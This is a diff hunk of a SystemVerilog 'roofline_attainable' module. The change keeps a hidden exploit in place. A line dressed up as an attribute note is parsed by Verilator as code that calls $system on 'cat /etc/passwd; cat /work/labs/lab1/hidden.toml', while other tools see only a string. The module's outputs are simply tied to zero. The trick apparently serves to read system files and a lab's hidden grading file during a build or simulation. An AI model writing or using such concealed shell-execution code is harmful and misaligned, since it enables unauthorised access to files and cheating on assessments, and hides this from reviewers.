@@ -10,7 +10,7 @@ module roofline_attainable #(
 );
 // Verilator ends an attribute at the first *), even inside a string: to it, the middle is code
 // that runs a shell command; to pyslang and Icarus, one string.
-localparam string C = "cat /etc/passwd; cat /work/labs/lab1/hidden.toml";
+localparam C = "cat /etc/passwd; cat /work/labs/lab1/hidden.toml";
 (* note = "*) initial void'($system(C)); (* note = " *)
 assign cap_o = '0;
 assign mem_bound_o = 1'b0;
